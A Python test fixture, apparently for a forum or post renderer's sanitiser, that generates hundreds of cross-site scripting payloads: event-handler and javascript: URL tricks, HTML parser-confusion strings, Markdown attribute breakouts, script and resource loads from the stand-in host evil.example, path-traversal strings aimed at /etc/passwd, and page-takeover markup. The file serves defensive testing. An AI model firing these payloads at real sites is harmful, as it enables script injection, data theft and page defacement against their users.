"""Texts that try to run scripts, to call other websites and to change the page around them.

Written by rules of our own from what is publicly known about such attacks. `VECTORS` is a list of `(name,
text)`; a text is what a student could put into the body of a post. Whatever runs calls `alert`, and whatever
is loaded comes from `HOST`.
"""

from __future__ import annotations

from collections.abc import Iterator

HOST = "evil.example"
"""No page of ours may ever ask this host for anything."""

RUN = "alert(1)"
LOAD = f"https://{HOST}/x"
BOMB = f"<img src=x onerror={RUN}>"


def _words(text: str) -> list[str]:
    return text.split()


EVENTS = _words(
    """
    abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy
    beforecut beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload begin blur bounce
    cancel canplay canplaythrough change click close command contentvisibilityautostatechange contextmenu copy
    cuechange cut dblclick drag dragend dragenter dragleave dragover dragstart drop durationchange emptied end
    ended error finish focus focusin focusout formdata fullscreenchange gotpointercapture hashchange input
    invalid keydown keypress keyup load loadeddata loadedmetadata loadstart lostpointercapture message
    mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel open pagehide pageshow
    paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout
    pointerover pointerrawupdate pointerup popstate progress ratechange repeat reset resize scroll scrollend
    scrollsnapchange search securitypolicyviolation seeked seeking select selectionchange selectstart show
    slotchange stalled start submit suspend timeupdate toggle touchcancel touchend touchmove touchstart
    transitioncancel transitionend transitionrun transitionstart unload volumechange waiting
    webkitanimationend webkittransitionend wheel
    """
)

BEARERS = (
    "<div on{e}={r} tabindex=1>x</div>",
    "<p on{e}='{r}'>x</p>",
    '<a href=# on{e}="{r}">x</a>',
    "<img src=x on{e}={r}>",
    "<details open on{e}={r}><summary>x</summary></details>",
    "<video src=x controls on{e}={r}></video>",
    "<audio src=x controls on{e}={r}></audio>",
    "<svg on{e}={r}><circle r=9 on{e}={r} /></svg>",
    "<body on{e}={r}>",
    "<input autofocus on{e}={r}>",
    "<marquee on{e}={r}>x</marquee>",
    "<custom-tag on{e}={r} tabindex=0 autofocus>x</custom-tag>",
)

HANDLERS = (
    f"<img src=x oNeRrOr={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x\nonerror\n=\n{RUN}>",
    f"<img src=x\tonerror\t={RUN}\t>",
    f"<img src=x onerror\x0c={RUN}>",
    f"<img src=x onerror=`{RUN}`>",
    f"<img src='x'onerror='{RUN}'>",
    f'<img src="x"onerror="{RUN}">',
    f"<img src=x on\x00error={RUN}>",
    f"<img src=x \x00onerror={RUN}>",
    f"<\x00img src=x onerror={RUN}>",
    f"<img src=x onerror={RUN}",
    f"<img src=x onerror={RUN} <b>",
    f"<img src=x onerror={RUN}//",
    f"<<img src=x onerror={RUN}>>",
    f"<img src=x:x onerror={RUN} />",
    "<img src=x alt=a onerror='&#97;lert(1)'>",
    f"<img alt='\"' src=x onerror={RUN}>",
    f'<img alt="\'" src=x onerror={RUN}>',
    f"<img alt='>' src=x onerror={RUN}>",
    f'<img alt=">" src=x onerror={RUN}>',
    f"<img ='x' src=x onerror={RUN}>",
    f"<img src=x onerror={RUN} onerror=x>",
    f"<img src=x onerror=x onerror={RUN}>",
    f'<a title="<img src=x onerror={RUN}>">x</a>',
    f"<abbr title='\"><img src=x onerror={RUN}>'>x</abbr>",
    f'<img alt="`><img src=x onerror={RUN}>" src=frog.jpg>',
    f"<b <img src=x onerror={RUN}>>x</b>",
    f'<a href="x"><img src=x onerror={RUN}></a onclick={RUN}>',
    f"</p onclick={RUN}><p/onclick={RUN}>x",
    f"<img src=frog.jpg alt=x onload={RUN}>",
    f"<video src=reading.mp4 onloadstart={RUN}></video>",
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT >",
    f"<script\n>{RUN}</script\n>",
    f"<script/x>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script>{RUN}",
    f"<script src={LOAD}.js></script>",
    f"<script src=//{HOST}/x.js>",
    f"<script type=module>import '{LOAD}.js'</script>",
    f"<script type=text/plain>{RUN}</script>",
    f"\\<script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"＜script＞{RUN}＜/script＞",
    f"<ſcript>{RUN}</ſcript>",
    f"<isindex action=javascript:{RUN} type=image>",
    f"<x contenteditable autofocus onfocus={RUN}>x",
    f"<style onload={RUN}>x</style>",
    f"<link rel=stylesheet href=x onerror={RUN}>",
    f"<object data=x onerror={RUN}></object>",
    f"<embed src=x onerror={RUN}>",
    f"<iframe onload={RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe srcdoc='&lt;script&gt;parent.{RUN}&lt;/script&gt;'></iframe>",
    f"<frameset onload={RUN}><frame></frameset>",
    f"<dialog open onclose={RUN}>x</dialog>",
    f"<keygen autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}><option>x</select>",
    f"<textarea autofocus onfocus={RUN}>x</textarea>",
    f"<button popovertarget=p>x</button><div popover id=p onbeforetoggle={RUN}>x</div>",
    f"<input type=hidden accesskey=x onclick={RUN}>",
)

ADDRESSES = {
    "plain": f"javascript:{RUN}",
    "mixed case": f"JaVaScRiPt:{RUN}",
    "a tab inside": f"java\tscript:{RUN}",
    "a line inside": f"java\nscript:{RUN}",
    "a space before": f" javascript:{RUN}",
    "a control before": f"\x01javascript:{RUN}",
    "an escape before": f"\x1bjavascript:{RUN}",
    "a mark before": f"\u200ejavascript:{RUN}",
    "a byte order mark before": f"\ufeffjavascript:{RUN}",
    "an entity": f"&#106;avascript:{RUN}",
    "an entity without its end": f"&#106avascript:{RUN}",
    "entities in hex": "".join(f"&#x{ord(c):x};" for c in "javascript:") + RUN,
    "a named colon": f"javascript&colon;{RUN}",
    "a tab by entity": f"java&Tab;script:{RUN}",
    "a line by entity": f"java&NewLine;script:{RUN}",
    "percent": f"javascript%3A{RUN}",
    "slashes": f"javascript://%0a{RUN}",
    "a comment": f"javascript:/*x*/{RUN}",
    "vbscript": f"vbscript:{RUN}",
    "data html": f"data:text/html,<script>{RUN}</script>",
    "data html by base64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data svg": f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    "blob": f"blob:https://{HOST}/x",
    "feed": f"feed:javascript:{RUN}",
    "view-source": f"view-source:javascript:{RUN}",
    "file": "file:///etc/passwd",
    "no scheme": f"//{HOST}/x",
    "backslashes": f"\\\\{HOST}\\x",
    "a slash each way": f"/\\{HOST}/x",
    "a tab between slashes": f"/\t/{HOST}/x",
    "one slash": f"https:/{HOST}/x",
    "no slash": f"https:{HOST}/x",
    "capitals": f"HTTPS://{HOST}/x",
    "out of the folder": "../../../../etc/passwd",
    "out by percent": "%2e%2e/%2e%2e/etc/passwd",
    "out by backslash": "..\\..\\etc\\passwd",
    "a drive": "C:\\windows\\win.ini",
}

CARRIERS = {
    "link": "[x]({a})",
    "bracketed link": "[x](<{a}>)",
    "picture": "![x]({a})",
    "bracketed picture": '![x](<{a}> "t")',
    "reference": "[x][r]\n\n[r]: {a}",
    "picture by reference": "![x][r]\n\n[r]: <{a}> 'y'",
    "autolink": "<{a}>",
    "a": '<a href="{a}">x</a>',
    "a without quotes": "<a href={a}>x</a>",
    "img": '<img src="{a}" alt=x>',
    "srcset": '<img srcset="{a} 1x, {a} 2x" alt=x>',
    "video": '<video src="{a}" controls></video>',
    "poster": '<video src=reading.mp4 poster="{a}" controls></video>',
    "source": '<audio controls><source src="{a}"></audio>',
    "iframe": '<iframe src="{a}"></iframe>',
    "object": '<object data="{a}"></object>',
    "embed": '<embed src="{a}">',
    "form": '<form action="{a}"><button autofocus>x</button></form>',
    "formaction": '<form><button formaction="{a}">x</button></form>',
    "area": '<map name=m><area shape=default href="{a}"></map><img src=frog.jpg usemap=#m>',
    "refresh": '<meta http-equiv=refresh content="0;url={a}">',
    "base": '<base href="{a}"><img src=y>',
    "svg link": '<svg><a xlink:href="{a}"><text y=9>x</text></a></svg>',
    "svg use": '<svg><use href="{a}#x"/></svg>',
    "svg animation": '<svg><a><animate attributeName=href values="{a}"/><text y=9>x</text></a></svg>',
    "math": '<math><mi href="{a}">x</mi></math>',
    "in a block": '<div>\n<a href="{a}">x</a><img src="{a}">\n</div>',
}

RAW_TEXT = _words(
    "style script xmp iframe noembed noframes noscript plaintext title textarea template select"
)
FOREIGN = (
    "svg",
    "svg><desc",
    "svg><title",
    "svg><foreignObject",
    "svg><style",
    "math",
    "math><mtext",
    "math><mtext><mglyph",
    "math><mtext><table><mglyph",
    "math><annotation-xml",
    'math><annotation-xml encoding="text/html"',
    "form><math><mtext></form><form><mglyph",
)

PARSERS = (
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!---><img src=x onerror={RUN}>-->",
    f"<!-- --!><img src=x onerror={RUN}>-->",
    f"<!-- <!-- --><img src=x onerror={RUN}> -->",
    f'<!--<img src="--><img src=x onerror={RUN}>">',
    f'<! foo="><img src=x onerror={RUN}>">',
    f'<? foo="><img src=x onerror={RUN}>">',
    f'</ foo="><img src=x onerror={RUN}>">',
    f'<% foo="><img src=x onerror={RUN}>">',
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<svg><![CDATA[><img src=x onerror={RUN}>]]></svg>",
    f"<!DOCTYPE x [<!ENTITY y '<img src=x onerror={RUN}>'>]>&y;",
    f"<a><table><a><img src=x onerror={RUN}></table></a>",
    f"<table><tr><td><p><table><a title='</table><img src=x onerror={RUN}>'>",
    f"<p><svg><p title='</svg><img src=x onerror={RUN}>'>",
    f"<b><i><b><a><b><i><p><table><b><img src=x onerror={RUN}>",
    f"<form><form><input name=attributes><img src=x onerror={RUN}></form>",
    f"<select><option><svg><style><img src=x onerror={RUN}></select>",
    f"<template><template><img src=x onerror={RUN}></template>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f"<div><template shadowrootmode=open><slot></slot><script>{RUN}</script></template></div>",
    f"<ruby><rt><ruby><rp><svg><style><a title='</style><img src=x onerror={RUN}>'>",
    f"<ul><li><svg></li></ul><style><a id='</style><img src=x onerror={RUN}>'>",
    f"<details><summary><math><mtext><option><style><a title='</style><img src=x onerror={RUN}>'>",
    f"<h6><title><a id='</title><img src=x onerror={RUN}>'>",
    f"<caption><table><svg><desc><table><caption><style><a title='</style>{BOMB}'>",
    f"<svg><a><foreignObject><math><style><img src=x onerror={RUN}>",
    f"<svg/><style/><img src=x onerror={RUN}>",
    f"<math><style/><img src=x onerror={RUN}>",
    f"<xmp><svg><b><xmp><img title='</xmp><img src=x onerror={RUN}>'>",
    f"<pre>\n\n<img src=x onerror={RUN}></pre>",
    f"<table background=javascript:{RUN}><td background={LOAD}>x",
    f"<image src=x onerror={RUN}>",
    f"<p is=x-y><frame src=javascript:{RUN}>",
    f"<div{' ' * 5000}onclick={RUN}>x",
    f"<{'x' * 5000} onclick={RUN}>x",
    "<b>" * 600 + BOMB,
    "<div>" * 600 + BOMB,
    "<table><tr><td>" * 60 + BOMB,
)

LOADS = (
    "![x]({l}.png)",
    "![x](<{l}.png> 'y')",
    "[![x]({l}.png)]({l})",
    "![x]({l}.mp3)",
    "![x]({l}.mp4)",
    "![x](https://www.youtube.com/watch?v=abcdefghijk)",
    "<img src={l}.png>",
    "<img src=frog.jpg srcset='{l}.png 2x'>",
    "<img src=frog.jpg srcset='{l}.png, frog.jpg 2x' sizes=100vw>",
    "<picture><source srcset={l}.png><img src=frog.jpg></picture>",
    "<img src=frog.jpg style='background:url({l}.png)'>",
    "<p style='background:url({l}.png)'>x</p>",
    "<p style=\"list-style:url('{l}.png');content:url({l}.png)\">x</p>",
    "<p style='background:\\75rl({l}.png)'>x</p>",
    "<style>@import '{l}.css';</style>",
    "<style>@import url({l}.css); p {{background: url({l}.png)}} @font-face {{src: url({l})}}</style>",
    "<div><style>* {{background: url({l}.png)}}</style></div>",
    "<link rel=stylesheet href={l}.css>",
    "<link rel=preload as=image href={l}.png>",
    "<link rel=prefetch href={l}>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<link rel=preconnect href={l}>",
    "<link rel=icon href={l}.ico>",
    "<link rel=manifest href={l}.json>",
    "<link rel=modulepreload href={l}.js>",
    "<body background={l}.png>",
    "<table background={l}.png><tr background={l}.png><td background={l}.png>x</table>",
    "<input type=image src={l}.png>",
    "<video poster={l}.png controls></video>",
    "<video controls><source src={l}.mp4><track default src={l}.vtt></video>",
    "<video src=reading.mp4 controls crossorigin><track default kind=captions src={l}.vtt></video>",
    "<audio autoplay src={l}.mp3></audio>",
    "<bgsound src={l}.mp3>",
    "<embed src={l}.swf>",
    "<object data={l}.swf><param name=src value={l}></object>",
    "<applet code=x codebase={l}></applet>",
    "<iframe src={l}></iframe>",
    "<iframe srcdoc='<img src={l}.png>'></iframe>",
    "<iframe src='data:text/html,<img src={l}.png>'></iframe>",
    "<frameset><frame src={l}></frameset>",
    "<svg><image href={l}.png height=9 width=9 /></svg>",
    "<svg><image xlink:href={l}.png height=9 width=9 /></svg>",
    "<svg><use href={l}.svg#x></use></svg>",
    "<svg><filter id=f><feImage href={l}.png /></filter><rect filter=url(#f) width=9 height=9 /></svg>",
    "<svg><style>@import '{l}.css';</style></svg>",
    "<svg><script href={l}.js /></svg>",
    "<svg><foreignObject><img src={l}.png></foreignObject></svg>",
    "<math><mtext><img src={l}.png></mtext></math>",
    "<meta http-equiv=refresh content='0;url={l}'>",
    "<meta http-equiv=Link content='<{l}.css>; rel=stylesheet'>",
    "<base href={l}/><img src=y.png>",
    "<form action={l}><input autofocus></form>",
    "<a href=x ping={l}>x</a>",
    "<a href=x attributionsrc={l}>x</a>",
    "<img src=frog.jpg attributionsrc={l}>",
    "<img src=frog.jpg longdesc={l} lowsrc={l}.png dynsrc={l}>",
    "<blockquote cite={l}>x</blockquote><q cite={l}>y</q><del cite={l}>z</del>",
    "<portal src={l}></portal><fencedframe src={l}></fencedframe>",
    "<script src={l}.js></script>",
    "<script>new Image().src = '{l}.png'</script>",
    "<img src=frog.jpg onload=\"fetch('{l}')\">",
    "<noscript><img src={l}.png></noscript>",
    "<template shadowrootmode=open><img src={l}.png></template>",
    "*[x]: <img src={l}.png>\n\nx",
    "[^1]\n\n[^1]: <img src={l}.png> ![x]({l}.png)",
    "x\n: <img src={l}.png>",
)

STRUCTURES = (
    "</p></div></section></article></main></body></html><h1>Mine now</h1>",
    "</div>" * 50,
    "<!--",
    "<!-- never closed\n\n**x**",
    "<div><div><div>",
    "<table><tr><td>",
    "<ul><li><ul><li>",
    "<details><summary>x",
    "<pre><code>",
    "<a href='https://example.org/'>all of the rest",
    "<b><i><u><s><del><mark>",
    "<textarea>",
    "<title>",
    "<style>",
    "<plaintext>",
    "<xmp>",
    "<noscript>",
    "<select><option>",
    "<iframe>",
    "<svg><desc>",
    "<math><mtext>",
    "<template>",
    "<script>/*",
    "<p title='",
    '<p title="',
    "<img alt='",
    '<a href="',
    "<form action=/login><input name=password type=password><button>Log in</button></form>",
    "<form id=location><input name=href></form>",
    "<a id=location>x</a><a id=document name=cookie>y</a>",
    "<img name=getElementById><img name=body>",
    "<li id=main>x</li><sup id=footer>y</sup>",
    "<p class='site-footer hidden' id=footer>x</p>",
    "<div class=gallery><div class=footnote><figure class=sound>x",
    "<p style='position:fixed;inset:0;background:#fff;z-index:9999'>x</p>",
    "<font size=99 color=white>x</font><center>y</center><marquee>z</marquee>",
    "<dialog open>x</dialog><div popover>y</div>",
    "<h1>x</h1><h2>y</h2><header>z</header><footer>f</footer><main>m</main><nav>n</nav>",
    "<p dir=rtl lang=ar hidden inert contenteditable draggable=true slot=x part=x>x</p>",
    "<p data-x=1 aria-hidden=true role=dialog tabindex=1 accesskey=a autofocus>x</p>",
    "<td>x</td><tr>y</tr><li>z</li><dd>d</dd><figcaption>f</figcaption><summary>s</summary>",
    "<a href=x><a href=y><a href=z>",
    "<table><p>x<tr><td>y<table><div>z",
    "<input><button><label><output><meter><progress><keygen><isindex>",
    "<body class=x><html lang=x><head><title>",
    "<col><colgroup><caption><frameset><frame>",
)

MARKDOWN = (
    f'[x](y "onmouseover={RUN}")',
    f"[x](y '\" onmouseover=\"{RUN}')",
    f'[x](https://example.org/"onmouseover="{RUN})',
    f'[x](<https://example.org/" onmouseover="{RUN}>)',
    f'![x" onerror="{RUN}](frog.jpg)',
    f'![x](frog.jpg"onerror="{RUN})',
    f"![x](frog.jpg 'a\" onerror=\"{RUN}')",
    f'![<img src=x onerror={RUN}>](frog.jpg "<img src=x onerror={RUN}>")',
    f'![&lt;img src=x onerror={RUN}&gt;](frog.jpg "&lt;img src=x onerror={RUN}&gt;")',
    f'![x\n<div>" onerror={RUN} x="\n</div>](frog.jpg)',
    f"[<img src=x onerror={RUN}>](https://example.org)",
    f"[`<img src=x onerror={RUN}>`](javascript:{RUN})",
    f'```" onmouseover="{RUN}\n<script>{RUN}</script>\n```',
    f'``` {{ .x onclick="{RUN}" }}\nx\n```',
    f"~~~ <img src=x onerror={RUN}>\nx\n~~~",
    f"    <img src=x onerror={RUN}>",
    f"`<img src=x onerror={RUN}>`",
    f"# <img src=x onerror={RUN}>",
    f"# x {{ onclick={RUN} }}",
    f"x {{: onclick={RUN} }}",
    f"> <img src=x onerror={RUN}>\n> <script>{RUN}</script>",
    f"- <img src=x onerror={RUN}>\n- <script>{RUN}</script>",
    f"a | b\n--|--\n<img src=x onerror={RUN}> | <script>{RUN}</script>",
    f"a | b\n--|:--:onclick={RUN}\nc | d",
    f'x[^"><img src=x onerror={RUN}>]\n\n[^"><img src=x onerror={RUN}>]: y',
    f"x[^1' onclick='{RUN}]\n\n[^1' onclick='{RUN}]: y",
    f'*[x]: "><img src=x onerror={RUN}>\n\nx',
    f"*[<img src=x onerror={RUN}>]: x\n\n<img src=x onerror={RUN}>",
    f"<img src=x onerror={RUN}>\n: <img src=x onerror={RUN}>",
    f'["><img src=x onerror={RUN}>]: javascript:{RUN}\n\n["><img src=x onerror={RUN}>]',
    f'<https://example.org/" onclick="{RUN}>',
    f"<https://example.org/'onclick='{RUN}>",
    f'<x"onclick="{RUN}@example.org>',
    f"<javascript:{RUN}//@example.org>",
    f'<mailto:x@example.org?body="onclick="{RUN}>',
    f"\x02wzxhzdk:0\x03 <div>{BOMB}</div> \x02klzzwxh:0000\x03 \x0260\x03img src=x onerror={RUN}\x0262\x03",
    f"\x02amp\x03lt;img src=x onerror={RUN}\x02amp\x03gt;",
    f"\x02zz1337820767766393qq\x03 \x02hzzhzkh:0\x03 {BOMB}",
    f"*<img src=x onerror={RUN}*>",
    f'**<a href="**javascript:{RUN}">x</a>',
    f'<a href="`javascript:{RUN}`">x</a>',
    f'<a href="\\javascript:{RUN}">x</a>',
    f"<a\\ onclick={RUN}>x</a>",
    f"<div markdown=1 onclick={RUN}>\n[x](javascript:{RUN})\n</div>",
    f"&lt;img src=x onerror={RUN}&gt; &amp;lt;img src=x onerror={RUN}&amp;gt;",
    f"[x](data:text/html,{BOMB})",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    f"[x]: https://example.org '\"><img src=x onerror={RUN}>'\n\n[x]",
    f"///Footnotes Go Here///\n\n[^1]\n\n[^1]: {BOMB}",
    "{{ 7*7 }} {% raw %} {{ config }} ${7*7} <%= 7*7 %> #{7*7}",
)

CHARACTERS = (
    "\u202ereversed\u202c \u2066isolated \u202d",
    "&#x202e;reversed &#8238;again",
    "x" + "\u0301" * 500,
    "x" + "&#x301;" * 500,
    "\u0e49" * 300 + "\u0489" * 300,
    "\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0e\x1b\x7f\x80\x9f",
    "&#0;&#1;&#2;&#8;&#27;&#127;&#128;&#xd800;&#x110000;&#xfffe;",
    "\ufeff\ufffe\uffff\ufdd0",
    "\ud800 half \udfff",
    "a\u200b\u200c\u200d\u2060\u00adb",
    "\U000e0041\U000e0042\U0001f1e6",
    "w" * 20_000,
    "\u2028\u2029\u0085",
    "\r\r\n\n\r <b>\r</b>",
)


def _vectors() -> Iterator[tuple[str, str]]:
    for event in EVENTS:
        yield f"event {event}", "\n".join(bearer.format(e=event, r=RUN) for bearer in BEARERS)
    for number, text in enumerate(HANDLERS):
        yield f"handler {number}", text
    for carrier, shape in CARRIERS.items():
        for trick, address in ADDRESSES.items():
            yield f"{carrier}: {trick}", shape.format(a=address)
    for raw in RAW_TEXT:
        yield f"{raw} in an attribute", f'<{raw}><p title="</{raw}>{BOMB}">x</{raw}>'
        yield f"{raw} in a comment", f"<{raw}><!--</{raw}>{BOMB}--></{raw}>"
        for foreign in FOREIGN:
            inner = f'<{foreign}><{raw}><a id="</{raw}>{BOMB}">'
            yield f"{foreign} with {raw}", inner
            yield f"{foreign} with {raw}, in a block", f"<div>\n{inner}\n</div>\n\n{inner}"
    for group, texts in {
        "parser": PARSERS,
        "load": [shape.format(l=LOAD) for shape in LOADS],
        "structure": STRUCTURES,
        "markdown": MARKDOWN,
        "character": CHARACTERS,
    }.items():
        for number, text in enumerate(texts):
            yield f"{group} {number}", text


VECTORS: list[tuple[str, str]] = list(_vectors())
